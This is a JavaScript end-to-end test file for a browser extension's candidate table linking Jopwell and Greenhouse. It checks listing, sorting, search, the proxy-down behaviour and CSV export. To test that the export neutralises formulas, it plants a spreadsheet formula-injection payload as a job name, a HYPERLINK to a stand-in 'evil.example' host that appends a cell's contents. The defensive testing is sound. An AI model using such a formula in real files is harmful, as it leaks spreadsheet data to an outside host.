import assert from 'node:assert/strict';
import { readFileSync, readdirSync } from 'node:fs';
import { createRequire } from 'node:module';
import { join } from 'node:path';
import { test } from 'node:test';
import { sendPeople } from '../bench/setup.js';
import { button, eventually, inEachBrowser, only, status } from './setup.js';

const axe = readFileSync(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8');

const FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Open, please")';

/** CSV as RFC 4180 has it, read by its grammar: rows of fields. Throws where it is none. */
function readCsv(text) {
  const rows = [[]];
  const field = /"((?:[^"]|"")*)"|([^",\r\n]*)/y;
  for (;;) {
    const [whole, quoted, plain] = field.exec(text);
    rows.at(-1).push(quoted === undefined ? plain : quoted.replaceAll('""', '"'));
    const end = text.slice(field.lastIndex, field.lastIndex + 2);
    if (end.startsWith(',')) field.lastIndex += 1;
    else if (end === '\r\n') {
      field.lastIndex += 2;
      if (field.lastIndex === text.length) return rows;
      rows.push([]);
    } else throw new Error(`no CSV after ${JSON.stringify(whole)}: ${JSON.stringify(end)}`);
  }
}

inEachBrowser('all candidates', (world) => {
  let job;

  /** Seven people: one on a job with a dangerous name, one on Jopwell by address, the rest prospects. */
  async function people() {
    if (job) return;
    await sendPeople(world.browser, world.proxy, 5, (index) => `row-${index}`);
    const onAddress = await world.person({ variant: 'microdata' });
    await (await world.send(onAddress)).close();
    const onJob = await world.person();
    await (await world.send(onJob)).close();
    const { id } = await world.sandbox.control('POST', 'greenhouse/jobs', { name: FORMULA });
    const candidate = await world.theOneInGreenhouse(onJob);
    await world.sandbox.control('POST', `greenhouse/candidates/${candidate.id}/convert`, { job_id: id });
    const page = await world.open(
      `https://app.greenhouse.io/people/${candidate.id}?application_id=${candidate.applications[0].id}`,
    );
    await eventually('the job is known', async () => {
      await world.browser.stopBackground();
      await page.reload();
      await page.waitForText('From Jopwell');
      await world.settled();
      // The page itself names the job, so it is the proxy that is asked.
      const origin = world.browser.extensionUrl('').slice(0, -1);
      const all = await (await fetch(`${world.proxy.url}/v1/candidates`, { headers: { origin } })).text();
      return all.includes('HYPERLINK') || undefined;
    });
    await page.close();
    job = { onJob, onAddress, candidate };
  }

  async function table() {
    await people();
    const page = await world.openOwn('candidates.html');
    await page.waitFor(status('7 candidates'));
    return page;
  }

  const cells = (page) =>
    page.evaluate(() =>
      [...document.querySelectorAll('#rows tr:not(.space)')].map((row) => [...row.cells].map((cell) => cell.textContent)),
    );
  const column = async (page, index) => (await cells(page)).map((row) => row[index]);
  const sorting = (page) =>
    page.evaluate(() => [...document.querySelectorAll('th')].map((cell) => cell.getAttribute('aria-sort')));

  async function isAccessible(page) {
    await page.evaluate(`(() => {${axe}})()`);
    for (const scheme of ['light', 'dark']) {
      await page.colorScheme(scheme);
      const violations = await page.evaluate(async () => {
        const found = await window.axe.run(document);
        return found.violations.map(({ id, help, nodes }) => ({ id, help, nodes: nodes.map(({ html }) => html) }));
      });
      assert.deepEqual(violations, [], scheme);
      await world.screenshot(page, `candidates-${scheme}`);
    }
  }

  test('the table lists everyone, newest first, without names and with links to both sites', async () => {
    const page = await table();
    const rows = await cells(page);
    assert.equal(rows.length, 7);
    assert.equal(rows[0][0], job.onJob.externalId);
    assert.deepEqual(rows[0].slice(1, 5), [String(job.candidate.id), FORMULA, rows[0][3], 'Active']);
    assert.ok(rows[0][3].length > 0, 'a stage');
    assert.ok(!(await page.text()).includes(job.onJob.name));
    const links = await page.evaluate(() =>
      [...document.querySelectorAll('#rows a')].map(({ href, target, rel }) => [href, target, rel]),
    );
    const safe = ['_blank', 'noopener noreferrer'];
    assert.deepEqual(
      links.filter(([href]) => href.includes('www.jopwell.com')),
      [[`https://www.jopwell.com${job.onAddress.externalId}`, ...safe]],
    );
    const there = links.filter(([href]) => href.includes('greenhouse.io/people/'));
    assert.equal(there.length, 7);
    assert.ok(there[0][0].includes(`/people/${job.candidate.id}`));
    const counted = await page.evaluate(() => {
      const { attributes } = document.getElementById('table');
      const row = document.querySelector('#rows tr:not(.space)');
      return [attributes['aria-rowcount'].value, attributes['aria-colcount'].value, row.getAttribute('aria-rowindex')];
    });
    assert.deepEqual(counted, ['8', '8', '2']);
    await isAccessible(page);
    await page.puppeteer.setViewport({ width: 360, height: 700 });
    const isCut = () =>
      [...document.querySelectorAll('#rows td:nth-child(2) a')].some((link) => {
        const { paddingInlineEnd } = getComputedStyle(link.parentElement);
        const end = link.parentElement.getBoundingClientRect().right - Number.parseFloat(paddingInlineEnd);
        return link.getBoundingClientRect().right > end;
      });
    assert.equal(await page.evaluate(isCut), false, 'no Greenhouse id is cut off on a narrow page');
    await page.puppeteer.setViewport(null);
  });

  test('the table sorts by a column, by mouse and keyboard, in both directions', async () => {
    const page = await table();
    assert.deepEqual(await sorting(page), [null, null, null, null, null, null, 'descending', null]);
    const before = await column(page, 0);
    await page.click(button('Jopwell ID'));
    const sorted = ['row-0', 'row-1', 'row-2', 'row-3', 'row-4'];
    await eventually('sorted', async () => {
      const now = (await column(page, 0)).filter((id) => id.startsWith('row-'));
      return JSON.stringify(now) === JSON.stringify(sorted) || undefined;
    });
    assert.equal((await sorting(page))[0], 'ascending');
    await page.waitFor({ ...button('Jopwell ID'), focused: true });
    const ascending = await column(page, 0);
    await page.press('Enter');
    await eventually('the other way round', async () => (await sorting(page))[0] === 'descending' || undefined);
    assert.deepEqual(await column(page, 0), ascending.reverse());
    await page.click(button('Sent'));
    await eventually('as before', async () => (await sorting(page))[6] === 'descending' || undefined);
    assert.deepEqual(await column(page, 0), before);
  });

  test('search and filters narrow the table and say how many rows match', async () => {
    const page = await table();
    await page.fill({ role: 'searchbox', name: 'Search' }, 'ROW-3');
    await page.waitFor(status('1 of 7 candidates'));
    assert.deepEqual(await column(page, 0), ['row-3']);
    await page.fill({ role: 'searchbox', name: 'Search' }, 'hyperlink active');
    await eventually('the one on the job', async () =>
      (await column(page, 0))[0] === job.onJob.externalId || undefined,
    );
    await page.fill({ role: 'searchbox', name: 'Search' }, 'nobody at all');
    await page.waitFor(status('0 of 7 candidates'));
    assert.deepEqual(await cells(page), []);
    await page.fill({ role: 'searchbox', name: 'Search' }, '');
    await page.waitFor(status('7 candidates'));
    await page.evaluate((name) => {
      const select = document.getElementById('job-filter');
      select.value = name;
      select.dispatchEvent(new Event('change'));
    }, FORMULA);
    await page.waitFor(status('1 of 7 candidates'));
    await page.click(button('Refresh'));
    await page.waitFor(status('1 of 7 candidates'));
    assert.deepEqual(await column(page, 0), [job.onJob.externalId], 'what was chosen stays');
  });

  test('the exported CSV is valid and holds no formula', async () => {
    const page = await table();
    const folder = await world.folder();
    await world.browser.downloadTo(folder);
    await page.click(button('Export CSV'));
    const name = await eventually('the file', async () =>
      readdirSync(folder).find((file) => /^jopwell-candidates-\d{4}-\d\d-\d\d\.csv$/.test(file)),
    );
    const file = await eventually('all of it', async () => {
      const text = readFileSync(join(folder, name), 'utf8');
      return text.endsWith('\r\n') ? text : undefined;
    });
    assert.ok(file.startsWith('\ufeff'), 'so that Excel knows its letters');
    const [head, ...rows] = readCsv(file.slice(1));
    assert.deepEqual(head.slice(0, 3), ['Jopwell ID', 'Greenhouse ID', 'Job']);
    assert.equal(rows.length, 7);
    assert.ok(rows.every((row) => row.length === head.length));
    assert.equal(rows[0][0], job.onJob.externalId);
    assert.equal(rows[0][2], `'${FORMULA}`);
    assert.ok(rows.flat().every((cell) => !/^[=+\-@\t\r]/.test(cell)));
    assert.match(rows[0][6], /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ$/);
    assert.ok(rows[0][9].includes(`/people/${job.candidate.id}`));
    assert.ok(!file.includes(job.onJob.name), 'no names');
  });

  test('the popup opens the table', async () => {
    const popup = await world.popup();
    await popup.click(button('All candidates'));
    await world.browser.takeTab(world.browser.extensionUrl('candidates.html'));
  });

  test('the table stays and says so when the proxy is down, and refreshes on request', async () => {
    const page = await table();
    await world.proxy.kill();
    await page.click(button('Refresh'));
    await page.waitForText('The ATSi proxy isn’t responding.');
    assert.equal((await cells(page)).length, 7);
    const fresh = await world.openOwn('candidates.html');
    const told = await fresh.waitForText('The ATSi proxy isn’t responding.');
    assert.ok(!told.includes('No candidates yet'), told);
    await world.proxy.start();
    await page.click(button('Refresh'));
    await eventually('no alert', async () => !(await page.text()).includes('isn’t responding') || undefined);
    await page.waitFor(status('7 candidates'));
    await only(page, status('7 candidates'));
  });
});
